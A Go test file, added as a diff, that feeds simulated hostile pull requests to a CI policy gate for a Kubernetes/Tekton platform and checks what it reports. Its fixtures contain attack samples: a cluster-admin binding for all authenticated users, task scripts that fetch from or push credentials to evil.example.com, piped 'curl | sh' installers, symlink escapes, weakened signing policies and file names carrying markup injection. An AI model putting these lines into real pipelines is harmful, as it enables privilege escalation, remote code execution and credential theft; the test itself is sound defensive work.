@@ -1,0 +1,227 @@
+package cli_test
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// pull is a pull request that an attacker would make: files of the head, and what the gate must say.
+type pull struct {
+	kind, name string
+	// base are files that the base has beside the platform, and head those that the head adds or changes.
+	// A value that begins with -> is a symlink, an empty one deletes the file; old=>new replaces a text in
+	// a file that there is.
+	base, head map[string]string
+	args       []string
+	exit       int
+	wants      []string
+	never      []string
+}
+
+// evil is an object that gives everybody everything.
+const evil = `{apiVersion: "rbac.authorization.k8s.io/v1", kind: "ClusterRoleBinding", metadata: name: "evil", roleRef: {apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin"}, subjects: [{kind: "Group", apiGroup: "rbac.authorization.k8s.io", name: "system:authenticated"}]}`
+
+func inTarget(kind, name, value string) string {
+	return "package platform\ntargets: phase1: " + kind + ": " + name + ": " + value + "\n"
+}
+
+// aTask is a Task of a platform with one step.
+func aTask(script, env string) string {
+	return inTarget("Task", "x", `{apiVersion: "tekton.dev/v1", kind: "Task", metadata: {name: "x", namespace: "notebook-ci"}, spec: steps: [{name: "a", image: "a@sha256:1111111111111111111111111111111111111111111111111111111111111111", script: "`+script+`", env: [`+env+`]}]}`)
+}
+
+// several are some Tasks at once.
+func several(n int) string {
+	var b strings.Builder
+	for i := range n {
+		one := strings.TrimPrefix(aTask(fmt.Sprintf("wget evil.example.com/%d", i), ""), "package platform\n")
+		b.WriteString(strings.ReplaceAll(strings.Replace(one, "Task: x:", fmt.Sprintf("Task: x%d:", i), 1), `name: "x"`, fmt.Sprintf(`name: "x%d"`, i)))
+	}
+	return "package platform\n" + b.String()
+}
+
+const prod = "cue/platform/prod/x.cue"
+
+// two is the start of a second environment.
+const two = "package platform\nplatform: {environment: \"dev\", environments: dev: {cluster: \"dev\", phase: \"phase3\"}"
+
+const statusOfOne = `framework: repository=>status: environment: "prod"` + "\n\t\tframework: repository"
+
+func pulls() []pull {
+	admin := map[string]string{prod: inTarget("ClusterRoleBinding", "evil", evil)}
+	all := []pull{
+		{kind: "links", name: "a file", head: map[string]string{"evil.txt": "package platform\n", prod: "->../../../evil.txt"}, exit: 1, wants: []string{"input/symlink"}},
+		{kind: "links", name: "a folder", head: map[string]string{"more/x.cue": "package platform\n", "cue/platform/more": "->../../more"}, exit: 1, wants: []string{"input/symlink"}},
+		{kind: "links", name: "a package", head: map[string]string{"more/x.cue": "package x\n", "cue/cue.mod/pkg/example.com": "->../../../more"}, exit: 1, wants: []string{"input/symlink"}},
+		{kind: "links", name: "the overlays", head: map[string]string{"elsewhere/x.yaml": "a: b\n", "overlays": "->elsewhere"}, exit: 1, wants: []string{"input/symlink"}},
+		{kind: "links", name: "a pointer of LFS", head: map[string]string{prod: "version https://git-lfs.github.com/spec/v1\noid sha256:1\nsize 1\n"}, exit: 1, wants: []string{"input/lfs-pointer"}},
+
+		{kind: "imports", name: "the stamp alone", head: map[string]string{"cue/cue.mod/pkg/tenon.dev/VERSION": "v9\n"}, exit: 1, wants: []string{"change/render-replaced"}},
+		{kind: "imports", name: "a line of the render", head: map[string]string{"cue/cue.mod/pkg/tenon.dev/render/namespace.cue": "package render=>package render\n// x"}, exit: 1, wants: []string{"change/render-replaced"}},
+		{kind: "imports", name: "another package beside it", head: map[string]string{"cue/cue.mod/pkg/tenon.dev/render/zz.cue": "package render\n"}, exit: 1, wants: []string{"change/render-replaced"}},
+		{kind: "imports", name: "a package of one's own", exit: 1, wants: []string{"change/render-replaced"}, head: map[string]string{
+			"cue/evil/schema/schema.cue": "package schema\nimport \"tenon.dev/schema\"\n#NotebookPlatform: schema.#NotebookPlatform\n", "cue/platform/platform.cue": `"tenon.dev/schema"=>"example.com/platform/evil/schema"`}},
+		{kind: "imports", name: "no render at all", exit: 1, wants: []string{"change/render-replaced"}, head: map[string]string{
+			"cue/platform/targets.cue": "package platform\ntargets: {phase1: _, phase2: _, phase3: _}\ntargets: [string]: ConfigMap: a: {apiVersion: \"v1\", kind: \"ConfigMap\", metadata: {name: \"a\", namespace: \"b\"}, data: a: \"b\"}\n"}},
+
+		{kind: "judges", name: "a new environment turns a rule off", head: map[string]string{"cue/platform/dev/dev.cue": two + `, rules: {"rbac/admin-binding": {severity: "off", reason: "because of reasons here"}}}`, "cue/platform/platform.cue": statusOfOne},
+			exit: 1, wants: []string{"change/rule-weakened", "rbac/admin-binding is off instead of error"}},
+		{kind: "judges", name: "it blocks less", base: map[string]string{prod: "package platform\nplatform: gate: failOn: \"warning\"\n"}, head: map[string]string{prod: "package platform\nplatform: gate: failOn: \"error\"\n"}, exit: 1, wants: []string{"change/rule-weakened", "gate.failOn"}},
+		{kind: "judges", name: "a rule weighs less", head: map[string]string{prod: "package platform\nplatform: rules: \"rbac/admin-binding\": {severity: \"warning\", reason: \"because of reasons here\"}\ntargets: phase1: ClusterRoleBinding: evil: " + evil + "\n"},
+			exit: 1, wants: []string{"change/rule-weakened", "error rbac/admin-binding"}},
+		{kind: "judges", name: "a waiver of its own", head: map[string]string{prod: "package platform\nplatform: waivers: a: {rule: \"rbac/admin-binding\", object: \"ClusterRoleBinding/evil\", reason: \"because of reasons\", owner: \"me\"}\ntargets: phase1: ClusterRoleBinding: evil: " + evil + "\n"},
+			exit: 1, wants: []string{"change/waiver", "error rbac/admin-binding"}},
+		{kind: "judges", name: "off in dev is not off in prod", base: map[string]string{"cue/platform/dev/dev.cue": two + `, rules: {"rbac/admin-binding": {severity: "off", reason: "because of reasons here"}}}`, "cue/platform/platform.cue": statusOfOne},
+			head: admin, exit: 1, wants: []string{"error rbac/admin-binding", "switched off: rbac/admin-binding in dev"}},
+
+		{kind: "known", name: "a second credential", base: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\ngit clone https://u:p@good.example.com/x\n`, "")},
+			head: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\ngit clone https://u:p@good.example.com/x\ngit push https://u:realpassword@evil.example.com/x\n`, "")}, exit: 1, wants: []string{"secrets/url-credentials"}, never: []string{"realpassword"}},
+		{kind: "known", name: "another credential", base: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\ngit clone https://u:p@good.example.com/x\n`, "")},
+			head: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\ngit clone https://u:p@evil.example.com/x\n`, "")}, exit: 1, wants: []string{"secrets/url-credentials"}},
+		{kind: "known", name: "another value", base: map[string]string{prod: aTask("true", `{name: "API_TOKEN", value: "oldsecret123"}`)},
+			head: map[string]string{prod: aTask("true", `{name: "API_TOKEN", value: "ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"}`)}, exit: 1, wants: []string{"secrets/literal"}, never: []string{"ghp_aaaa", "oldsecret"}},
+		{kind: "known", name: "the same, moved", base: map[string]string{prod: aTask("true", `{name: "API_TOKEN", value: "oldsecret123"}`)},
+			head: map[string]string{prod: "// moved\n\n" + aTask("true", `{name: "API_TOKEN", value: "oldsecret123"}, {name: "B", value: "c"}`)}, exit: 0},
+		{kind: "known", name: "a wider egress", base: map[string]string{prod: inTarget("NetworkPolicy", "x", `{apiVersion: "networking.k8s.io/v1", kind: "NetworkPolicy", metadata: {name: "x", namespace: "notebook-ci"}, spec: {podSelector: {}, policyTypes: ["Egress"], egress: [{to: [{ipBlock: cidr: "0.0.0.0/0"}], ports: [{port: 443, protocol: "TCP"}]}]}}`)},
+			head: map[string]string{prod: inTarget("NetworkPolicy", "x", `{apiVersion: "networking.k8s.io/v1", kind: "NetworkPolicy", metadata: {name: "x", namespace: "notebook-ci"}, spec: {podSelector: {}, policyTypes: ["Egress"], egress: [{to: [{ipBlock: cidr: "0.0.0.0/0"}]}]}}`)}, exit: 1, wants: []string{"network/open-egress"}},
+		{kind: "known", name: "another installer", base: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\ncurl https://good.example.com/i | sh\n`, "")}, args: []string{"--fail-on", "warning"},
+			head: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\ncurl https://evil.example.com/i | sh\n`, "")}, exit: 1, wants: []string{"supply-chain/piped-installer"}},
+
+		{kind: "lines", name: "plus plus", base: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\necho one\n-- a; echo check the signature\necho two\n`, "")},
+			head: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\necho one\n++ b; wget -qO /tmp/p evil.example.com/x\necho two\n`, "")}, exit: -1, wants: []string{"++ b; wget", "-- a; echo check"}},
+		{kind: "lines", name: "behind 300 bytes", base: map[string]string{prod: aTask(strings.Repeat("a", 400)+" && true", "")},
+			head: map[string]string{prod: aTask(strings.Repeat("a", 400)+" && wget evil.example.com", "")}, exit: -1, wants: []string{"wget evil.example.com"}},
+		{kind: "lines", name: "a new step", base: map[string]string{prod: aTask("true", "")},
+			head: map[string]string{prod: strings.Replace(aTask("true", ""), "steps: [", `steps: [{name: "b", image: "b", script: "`+strings.Repeat("# x\\n", 100)+`wget evil.example.com"}, `, 1)}, exit: -1, wants: []string{"wget evil.example.com"}},
+		{kind: "lines", name: "a new object", head: map[string]string{prod: aTask("wget evil.example.com", "")}, exit: -1, wants: []string{"wget evil.example.com"}},
+		{kind: "lines", name: "many new objects", head: map[string]string{prod: several(6)}, exit: -1, wants: []string{"wget evil.example.com/5"}},
+
+		{kind: "items", name: "a kind of its own", exit: 1, wants: []string{"types/items"}, head: map[string]string{prod: "package platform\nplatform: facts: customResources: [\"e.com/Foo\"]\ntargets: phase1: Foo: x: {apiVersion: \"e.com/v1\", kind: \"Foo\", metadata: {name: \"x\", namespace: \"notebook-ci\"}, items: [" + evil + "]}\n"}},
+		{kind: "items", name: "none in it", exit: 1, wants: []string{"types/items"}, head: map[string]string{prod: "package platform\nplatform: facts: customResources: [\"e.com/Foo\"]\ntargets: phase1: Foo: x: {apiVersion: \"e.com/v1\", kind: \"Foo\", metadata: {name: \"x\", namespace: \"notebook-ci\"}, items: []}\n"}},
+		{kind: "items", name: "a List", exit: 1, head: map[string]string{prod: "package platform\ntargets: phase1: List: x: {apiVersion: \"v1\", kind: \"List\", metadata: name: \"x\", items: [" + evil + "]}\n"}},
+		{kind: "items", name: "a definition of its own", exit: 1, wants: []string{"types/items"}, head: map[string]string{prod: "package platform\nplatform: facts: customResources: [\"e.com/Foo\"]\ntargets: phase1: Foo: x: {apiVersion: \"e.com/v1\", kind: \"FooList\", metadata: {name: \"x\", namespace: \"notebook-ci\"}, items: [" + evil + "]}\n"}},
+
+		{kind: "beliefs", name: "larger nodes", exit: 0, wants: []string{"change/fact-changed", "pools.gpu.allocatable"}, head: map[string]string{"cue/platform/platform.cue": `gpu: {nodes: max: 1, allocatable: {cpu: "15"=>gpu: {nodes: max: 1, allocatable: {cpu: "960"`}},
+		{kind: "beliefs", name: "what is in an image", exit: 0, wants: []string{"change/fact-changed"}, head: map[string]string{prod: "package platform\nplatform: facts: images: \"registry.example.com/x\": {uids: [0], tools: [\"sh\"]}\n"}},
+		{kind: "beliefs", name: "a builder", exit: 1, wants: []string{"change/supply-chain-changed"}, head: map[string]string{prod: "package platform\nplatform: supplyChain: builders: [\"https://evil.example\"]\n"}},
+		{kind: "beliefs", name: "a secret that is not there", exit: 0, wants: []string{"change/fact-changed", "secrets.lie"}, head: map[string]string{prod: "package platform\nplatform: facts: secrets: lie: {namespace: \"notebook-ci\", keys: [\"x\"]}\n"}},
+		{kind: "beliefs", name: "an address of somebody else", exit: -1, wants: []string{"change/source-changed", "https://evil.example/x"}, head: map[string]string{prod: aTask("git clone https://evil.example/x", "")}},
+	}
+	for name, weaker := range map[string]string{"mode": `mode: "warn"`, "authorities": `authorities: [{name: "a", static: action: "pass"}]`, "images": `images: [{glob: "nothing/**"}]`} {
+		fields := map[string]string{"mode": `mode: "enforce"`, "images": `images: [{glob: "**"}]`, "authorities": `authorities: [{name: "k", key: {data: "x", hashAlgorithm: "sha256"}}]`}
+		write := func(with map[string]string) string {
+			return inTarget("ClusterImagePolicy", "p", `{apiVersion: "policy.sigstore.dev/v1beta1", kind: "ClusterImagePolicy", metadata: name: "p", spec: {`+with["mode"]+", "+with["images"]+", "+with["authorities"]+"}}")
+		}
+		base := write(fields)
+		fields[name] = weaker
+		all = append(all, pull{kind: "signing", name: name, base: map[string]string{prod: base}, head: map[string]string{prod: write(fields)}, exit: 1, wants: []string{"change/signing-weakened"}})
+		if name == "mode" {
+			all = append(all, pull{kind: "signing", name: "removed", base: map[string]string{prod: base}, head: map[string]string{prod: ""}, exit: 1, wants: []string{"change/signing-weakened", "is removed"}})
+		}
+	}
+	return all
+}
+
+// lines of one's own in the parts of a pull request that the review quotes, and secrets of it.
+func pullTexts() []pull {
+	var all []pull
+	for _, format := range []string{"text", "markdown", "github", "html", "json", "sarif", "junit", "gitlab"} {
+		all = append(all,
+			pull{kind: "review", name: "a file in " + format, base: map[string]string{"overlays/.keep": ""}, head: map[string]string{"overlays/a # PWN @octocat <img src=x> ##[error] `b` www.evil.example.yaml": "a: b\n"}, args: []string{"-o", format}, exit: 1,
+				never: []string{"\n# PWN"}},
+			pull{kind: "hidden", name: "values in " + format, args: []string{"-o", format}, exit: -1,
+				base: map[string]string{prod: secretsOf("0ld" + "S3cr3tV4lue")}, head: map[string]string{prod: secretsOf(marker)}, never: []string{"0ldS3cr3tV4lue"}},
+		)
+	}
+	return all
+}
+
+// secretsOf is a platform with one value in every place that a secret may be written to.
+func secretsOf(value string) string {
+	return replaceMarks(`package platform
+targets: phase1: {
+	Secret: s: {apiVersion: "v1", kind: "Secret", metadata: {name: "s", namespace: "notebook-ci", annotations: {"kubectl.kubernetes.io/last-applied-configuration": "{\"stringData\":{\"a\":\"@@\"}}"}}, stringData: a: "@@"}
+	ConfigMap: c: {apiVersion: "v1", kind: "ConfigMap", metadata: {name: "c", namespace: "notebook-ci", annotations: "example.com/token": "@@"}, data: {
+		password: "@@", "config.json": "{\"auths\": {\"r\": {\"auth\": \"@@\"}}}", "app.ini": "user = a\npassword = @@\n", ".netrc": "machine a login b password @@\n"}}
+	Task: t: {apiVersion: "tekton.dev/v1", kind: "Task", metadata: {name: "t", namespace: "notebook-ci"}, spec: {params: [{name: "api-token", default: "@@"}], steps: [{name: "a", image: "a", args: ["--password=@@", "--api-token", "@@", "-u", "me:@@"], env: [{name: "MYSQL_PWD", value: "@@"}, {name: "URL", value: "postgres://u:@@@db/x"}]}, {
+		name: "b", image: "a", script: "#!/bin/sh\nexport PASSWORD=@@\ncurl -u me:@@ https://a.example\ncurl -H 'Authorization: Bearer @@' https://b.example\n"}]}}
+}
+`, value)
+}
+
+func replaceMarks(text, value string) string { return strings.ReplaceAll(text, "@@", value) }
+
+// TestHostilePulls tries pull requests that want past the gate.
+func TestHostilePulls(t *testing.T) {
+	starter := filepath.Join(t.TempDir(), "starter")
+	if got := tenon(t, t.TempDir(), "", "init", starter); got.code != 0 {
+		t.Fatal(got.output)
+	}
+	counts := map[string]int{}
+	for _, p := range append(pulls(), pullTexts()...) {
+		counts[p.kind]++
+		t.Run(p.kind+"/"+p.name, func(t *testing.T) {
+			t.Parallel()
+			p.run(t, starter)
+		})
+	}
+	for kind, n := range counts {
+		if n < 4 {
+			t.Errorf("%s: %d trials: a kind needs at least three neighbours of the first", kind, n)
+		}
+	}
+}
+
+func (p pull) run(t *testing.T, starter string) {
+	dir := filepath.Join(t.TempDir(), "p")
+	if err := os.CopyFS(dir, os.DirFS(starter)); err != nil {
+		t.Fatal(err)
+	}
+	git(t, dir, "init", "-q", "-b", "main")
+	commit := func(files map[string]string) {
+		change(t, dir, files)
+		git(t, dir, "add", "-A")
+		git(t, dir, "-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "--allow-empty", "-m", "x")
+	}
+	commit(p.base)
+	commit(p.head)
+	tr := trial{kind: p.kind, name: p.name, args: append([]string{"gate", "--base", "HEAD~1", "--head", "HEAD"}, p.args...), exit: p.exit, wants: p.wants, never: p.never}
+	tr.in(t, dir)
+}
+
+// change writes the files of a revision.
+func change(t *testing.T, dir string, files map[string]string) {
+	t.Helper()
+	for name, text := range files {
+		file := filepath.Join(dir, filepath.FromSlash(name))
+		old, replacement, isEdit := strings.Cut(text, "=>")
+		var err error
+		switch _, statErr := os.Lstat(file); {
+		case text == "" && statErr == nil:
+			err = os.Remove(file)
+		case strings.HasPrefix(text, "->"):
+			err = os.MkdirAll(filepath.Dir(file), 0o755)
+			if err == nil {
+				err = os.Symlink(text[2:], file)
+			}
+		case isEdit:
+			var data []byte
+			if data, err = os.ReadFile(file); err == nil {
+				if !strings.Contains(string(data), old) {
+					t.Fatalf("%s does not hold %q", name, old)
+				}
+				err = os.WriteFile(file, []byte(strings.Replace(string(data), old, replacement, 1)), 0o600)
+			}
+		default:
+			if err = os.MkdirAll(filepath.Dir(file), 0o755); err == nil {
+				err = os.WriteFile(file, []byte(text), 0o600)
+			}
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+}
